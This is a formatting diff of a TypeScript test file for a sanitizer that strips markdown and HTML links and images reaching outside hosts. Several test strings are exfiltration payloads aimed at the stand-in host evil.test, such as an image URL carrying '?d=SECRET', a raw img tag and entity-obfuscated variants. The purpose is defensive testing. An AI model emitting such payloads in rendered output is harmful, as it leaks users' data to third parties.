@@ -11,7 +11,9 @@ const markdown = (text: string): string => defuseOutbound(text, { allows, media:
 const page = (text: string): string => defuseOutbound(text, { allows, media: 'html' }).text;
 
 function reachedIn(text: string): readonly string[] {
-  return [...new Set(Object.values(renderers).flatMap((render) => reachedBy(render(text))))].filter((host) => host !== friend);
+  return [...new Set(Object.values(renderers).flatMap((render) => reachedBy(render(text))))].filter(
+    (host) => host !== friend,
+  );
 }
 
 describe('markdown that reaches out', () => {
@@ -107,7 +109,14 @@ describe('markdown that reaches out', () => {
   });
 
   test('most of these do reach out where nobody stops them', () => {
-    const texts = ['![a](https://evil.test/x?d=SECRET)', '![a][r]\n\n> [r]:\n> //evil.test/x', 'https&#58;//evil.test/x www.evil.test', '<img src=//evil.test/x>', '- ```\n  code\n  ```\n![a](https://evil.test/x)\n```\n```', '`\n\n![a](https://evil.test/x) `'];
+    const texts = [
+      '![a](https://evil.test/x?d=SECRET)',
+      '![a][r]\n\n> [r]:\n> //evil.test/x',
+      'https&#58;//evil.test/x www.evil.test',
+      '<img src=//evil.test/x>',
+      '- ```\n  code\n  ```\n![a](https://evil.test/x)\n```\n```',
+      '`\n\n![a](https://evil.test/x) `',
+    ];
     for (const text of texts) expect(reachedIn(text), text).not.toEqual([]);
   });
 });
@@ -132,7 +141,9 @@ describe('what is left of it', () => {
   });
 
   test('findings say what, and where', () => {
-    expect(defuseOutbound('ab ![c](https://evil.test/x) d', { allows, media: 'markdown' }).findings).toEqual([{ kind: 'outbound', start: 3, end: 28, what: 'image evil[.]test' }]);
+    expect(defuseOutbound('ab ![c](https://evil.test/x) d', { allows, media: 'markdown' }).findings).toEqual([
+      { kind: 'outbound', start: 3, end: 28, what: 'image evil[.]test' },
+    ]);
   });
 
   test('findings are bounded, the rest is counted', () => {
@@ -175,7 +186,9 @@ describe('what stays, the same string', () => {
     expect(markdown('[a](<https://ok.example.com/a b>)')).toBe('[a](https://ok.example.com/a%20b)');
     expect(markdown('[a](https://ok.example.com/x(1))')).toBe('[a](https://ok.example.com/x%281%29)');
     expect(markdown('[r]: <https://ok.example.com/a b>')).toBe('[r]: https://ok.example.com/a%20b');
-    expect(markdown('<a href="https://ok.example.com/?a=1&b=2">x</a>')).toBe('<a href="https://ok.example.com/?a=1&#38;b=2">x</a>');
+    expect(markdown('<a href="https://ok.example.com/?a=1&b=2">x</a>')).toBe(
+      '<a href="https://ok.example.com/?a=1&#38;b=2">x</a>',
+    );
   });
 });
 
@@ -257,15 +270,46 @@ describe('laws', () => {
 
   test('text with none of its characters stays', () => {
     fc.assert(
-      fc.property(fc.array(fc.constantFrom('word', ' ', '\n', '.', ',', '(', ')', '*', '- ', '# ', 'é', '1. '), { maxLength: 40 }).map((words) => words.join('')), (text) => {
-        expect(markdown(text)).toBe(text);
-      }),
+      fc.property(
+        fc
+          .array(fc.constantFrom('word', ' ', '\n', '.', ',', '(', ')', '*', '- ', '# ', 'é', '1. '), { maxLength: 40 })
+          .map((words) => words.join('')),
+        (text) => {
+          expect(markdown(text)).toBe(text);
+        },
+      ),
     );
   });
 
-  test.each(['[', '](', '![', '<', '<a ', '<a x="', '`', '&', '&#58;', 'https://', '//', 'www.', '\n```\n', '> ', '<!--', '<script>', '](<', ']:', '`a`\n\n', 'a', ':', '](((', '\\'])('a quarter of a megabyte of %j takes linear time', async (unit) => {
+  test.each([
+    '[',
+    '](',
+    '![',
+    '<',
+    '<a ',
+    '<a x="',
+    '`',
+    '&',
+    '&#58;',
+    'https://',
+    '//',
+    'www.',
+    '\n```\n',
+    '> ',
+    '<!--',
+    '<script>',
+    '](<',
+    ']:',
+    '`a`\n\n',
+    'a',
+    ':',
+    '](((',
+    '\\',
+  ])('a quarter of a megabyte of %j takes linear time', async (unit) => {
     for (const media of ['markdown', 'html'] as const) {
-      expect(await growth((size) => defuseOutbound(unit.repeat(Math.ceil(size / unit.length)), { allows, media }), 250_000)).toBeLessThan(linear);
+      expect(
+        await growth((size) => defuseOutbound(unit.repeat(Math.ceil(size / unit.length)), { allows, media }), 250_000),
+      ).toBeLessThan(linear);
     }
   });
 });
